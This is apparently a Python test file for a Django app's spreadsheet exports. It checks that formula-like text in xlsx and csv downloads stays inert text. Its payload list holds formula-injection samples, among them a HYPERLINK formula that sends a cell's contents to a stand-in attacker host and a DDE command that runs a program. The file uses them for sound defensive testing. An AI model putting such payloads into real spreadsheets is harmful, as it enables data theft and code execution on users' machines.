"""Every .xlsx the project hands out, read back: typed text is never a formula.

Names, positions, report fields and facility names are typed by people. Text that starts
like a formula ("=HYPERLINK(…)", "+1", "-1+1", "@SUM(…)") must come back as a text cell
holding exactly what was typed, with Excel's quote-prefix flag so that it stays text when
someone edits the cell (core/spreadsheets.py). Numbers stay numbers, dates are real
dates, and every download is private and uncached.
"""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core import spreadsheets
from tests import factories
from tests.pledges import factories as pf
from tests.reports import factories as rf

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&C2,"klik")',
    "+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def workbook_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    return load_workbook(io.BytesIO(response.content))


def cells_in_column(sheet, column: int, *, first_row: int):
    return [row[column - 1] for row in sheet.iter_rows(min_row=first_row)]


def assert_inert(cells, payloads=PAYLOADS):
    """Each payload is in one cell of `cells`, as quote-prefixed text, never as a formula."""
    by_value = {cell.value: cell for cell in cells}
    for payload in payloads:
        assert payload in by_value, f"{payload!r} not exported as typed: {sorted(map(repr, by_value))}"
        cell = by_value[payload]
        assert cell.data_type == "s", f"{payload!r} is a {cell.data_type!r} cell"
        assert cell.quotePrefix, f"{payload!r} would become a formula once the cell is edited"


def test_the_roster_export(client, facility_head, facility):
    for payload in PAYLOADS:
        factories.EmployeeFactory(facility=facility, name=payload, position=payload)
    client.force_login(facility_head)
    sheet = workbook_of(client.get(reverse("facilities:roster_export", args=[facility.pk]))).worksheets[0]
    assert_inert(cells_in_column(sheet, 1, first_row=2))
    assert_inert(cells_in_column(sheet, 5, first_row=2))
    assert sheet.column_dimensions["C"].number_format == "@"  # identifiers stay text


def test_the_roster_template(client, facility_head):
    client.force_login(facility_head)
    workbook = workbook_of(client.get(reverse("facilities:roster_template")))
    sheet = workbook.worksheets[0]
    assert sheet.column_dimensions["C"].number_format == "@"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_pact_completion_export(client, facility_head, facility):
    campaign = pf.CampaignFactory()
    for payload in PAYLOADS:
        employee = factories.EmployeeFactory(facility=facility, name=payload, position=payload)
        pf.signature(campaign, employee)
    client.force_login(facility_head)
    response = client.get(reverse("pledges:facility_export", args=[campaign.pk, facility.pk]))
    sheet = workbook_of(response).worksheets[0]
    header_row = 4
    assert [c.value for c in sheet[header_row]][:3] == ["No.", "Nama", "NIP / NI PPPK / NIK"]
    assert_inert(cells_in_column(sheet, 2, first_row=header_row + 1))
    assert_inert(cells_in_column(sheet, 6, first_row=header_row + 1))
    numbers = [c.value for c in cells_in_column(sheet, 1, first_row=header_row + 1)]
    assert numbers == list(range(1, len(PAYLOADS) + 1))
    signed_at = cells_in_column(sheet, 9, first_row=header_row + 1)
    assert all(cell.is_date and isinstance(cell.value, dt.datetime) for cell in signed_at)


def test_the_report_list_export(client, regional_admin, facility):
    for payload in PAYLOADS:
        rf.ReportFactory(facility=facility, reported_description=payload)
    client.force_login(regional_admin)
    sheet = workbook_of(client.get(reverse("reports:export"))).worksheets[0]
    assert sheet["A1"].value == "Nomor" and sheet["A1"].font.b
    assert_inert(cells_in_column(sheet, 4, first_row=2))
    received = cells_in_column(sheet, 2, first_row=2)
    assert all(cell.is_date and isinstance(cell.value, dt.datetime) for cell in received)
    occurred = cells_in_column(sheet, 7, first_row=2)
    assert all(cell.is_date and cell.value == dt.datetime(2024, 10, 1) for cell in occurred)


def test_the_report_list_export_shows_local_time(client, regional_admin, facility):
    # 23:30 UTC is 06:30 the next morning in WIB (UTC+7).
    rf.ReportFactory(facility=facility, created_at=dt.datetime(2024, 10, 1, 23, 30, tzinfo=dt.UTC))
    client.force_login(regional_admin)
    sheet = workbook_of(client.get(reverse("reports:export"))).worksheets[0]
    assert sheet["B2"].value == dt.datetime(2024, 10, 2, 6, 30)


def test_the_report_recap_export(client, regional_admin, region):
    for payload in PAYLOADS:
        rf.ReportFactory(facility=factories.FacilityFactory(regional_office=region, name=payload))
    client.force_login(regional_admin)
    sheet = workbook_of(client.get(reverse("reports:recap_export"))).worksheets[0]
    assert_inert(cells_in_column(sheet, 2, first_row=2))
    totals = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(row[2], int) for row in totals)
    assert totals[-1][2] == len(PAYLOADS)


def every_cell(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_recap_export_per_upt(client, regional_admin, region):
    """Every sheet of the recap .xlsx (one per block): typed UPT names and the chosen campaign's name."""
    campaign = pf.CampaignFactory(name=PAYLOADS[0], scope="region", regional_office=region)
    for payload in PAYLOADS:
        rf.ReportFactory(facility=factories.FacilityFactory(regional_office=region, name=payload))
    client.force_login(regional_admin)
    workbook = workbook_of(client.get(reverse("facilities:recap_export"), {"kampanye": campaign.pk}))
    assert len(workbook.worksheets) > 1
    for sheet in workbook.worksheets:
        assert_inert([cell for row in sheet.iter_rows() for cell in row])


def test_the_recap_export_per_kanwil(client, national_admin):
    for payload in PAYLOADS:
        factories.FacilityFactory(regional_office=factories.RegionalOfficeFactory(name=payload))
    client.force_login(national_admin)
    assert_inert(every_cell(workbook_of(client.get(reverse("facilities:recap_export")))))


def test_the_task_force_overview_export(client, regional_admin, region):
    from tests.satgas import factories as sf

    period = sf.PeriodFactory()
    for payload in PAYLOADS:
        factories.FacilityFactory(regional_office=region, name=payload, city=payload)
    client.force_login(regional_admin)
    response = client.get(reverse("satgas:overview_export"), {"period": period.pk})
    sheet = workbook_of(response).worksheets[0]
    assert_inert([cell for row in sheet.iter_rows() for cell in row])


def test_the_region_completion_export(client, regional_admin, region):
    campaign = pf.CampaignFactory()
    for payload in PAYLOADS:
        factories.FacilityFactory(regional_office=region, name=payload)
    client.force_login(regional_admin)
    response = client.get(reverse("pledges:region_export", args=[campaign.pk, region.pk]))
    assert_inert(every_cell(workbook_of(response)))


# --- The writer itself: .csv, and what no view exercises ------------------------------


@pytest.mark.parametrize("payload", [*PAYLOADS, "\r=1+1", "\n=1+1", "  =1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"])
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(payload):
    import csv

    content = spreadsheets.write_csv(
        [spreadsheets.Column("Nama"), spreadsheets.Column("Jumlah")], [[payload, -3], ["Budi", 1.5]]
    )
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Nama", "Jumlah"], [f"'{payload}", "-3"], ["Budi", "1.5"]]


def test_csv_responses_are_private_attachments():
    response = spreadsheets.csv_response("daftar pegawai/UPT\u00e9?.csv", [spreadsheets.Column("A")], [["x"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="daftar-pegawai-UPT.csv"'
    assert response["Cache-Control"] == "private, no-store"


def test_xlsx_text_is_text_and_control_characters_are_dropped():
    rows = [["#N/A", "nama\x0bdengan\x00kontrol", None, 7, dt.date(2024, 1, 2)]]
    sheet_spec = spreadsheets.Sheet("Uji", [spreadsheets.Column(t) for t in "ABCDE"], rows)
    sheet = load_workbook(io.BytesIO(spreadsheets.write_xlsx([sheet_spec]))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")
    assert sheet["B2"].value == "namadengankontrol"
    assert sheet["C2"].value is None and sheet["D2"].value == 7
    assert sheet["E2"].value == dt.datetime(2024, 1, 2) and sheet["E2"].number_format == "dd-mm-yyyy"
    assert not sheet["A2"].quotePrefix and not sheet["B2"].quotePrefix


@pytest.mark.parametrize("text", ["123", "0812", "1e5", "#REF!", "#tagar", "=", "A=B", " spasi", "Ä ü 日本", *PAYLOADS])
def test_every_text_comes_back_as_the_same_text(text):
    """Plain text is appended to the write-only sheet as it is (issue 13: no styled cell per value); whatever
    the text, it reads back as a text cell holding exactly it, quote-prefixed when formula-like."""
    rows = [[text, "biasa"]]
    sheet_spec = spreadsheets.Sheet("Uji", [spreadsheets.Column("A"), spreadsheets.Column("B")], rows)
    cell = load_workbook(io.BytesIO(spreadsheets.write_xlsx([sheet_spec]))).active["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert bool(cell.quotePrefix) == spreadsheets.is_formula_like(text)


def test_exports_show_the_labels_of_stored_choices(client, regional_admin, facility):
    """The exports translate each choice's label once (spreadsheets.choice_labels), not per row."""
    from reports.models import Report

    report = rf.ReportFactory(facility=facility)
    labels = spreadsheets.choice_labels(Report, "state")
    assert labels[report.state] == report.get_state_display()
    client.force_login(regional_admin)
    sheet = workbook_of(client.get(reverse("reports:export"))).active
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == report.reference)
    assert row[4:] == (
        report.get_category_display(),
        report.get_election_type_display(),
        report.occurred_on and dt.datetime.combine(report.occurred_on, dt.time()),
        report.get_state_display(),
        "Tidak",
    )


def test_no_other_module_writes_spreadsheets():
    """One writer: a new export that builds its own workbook or CSV would skip the neutralising."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    writers = re.compile(r"\bWorkbook\(|\bcsv\.writer\(|\bcsv\.DictWriter\(|\.to_excel\(|\.to_csv\(")
    found = sorted(
        path.relative_to(root).as_posix()
        for folder in ["config", *settings.LOCAL_APPS]
        for path in (root / folder).rglob("*.py")
        if "migrations" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    )
    assert found == ["core/spreadsheets.py"]


def test_csv_dates_are_local_and_numbers_plain():
    content = spreadsheets.write_csv(
        [spreadsheets.Column("Waktu"), spreadsheets.Column("Tanggal"), spreadsheets.Column("Jumlah")],
        [[dt.datetime(2024, 10, 1, 23, 30, tzinfo=dt.UTC), dt.date(2024, 10, 1), 12]],
    )
    assert content.decode("utf-8-sig").splitlines()[1] == "2024-10-02 06:30,2024-10-01,12"
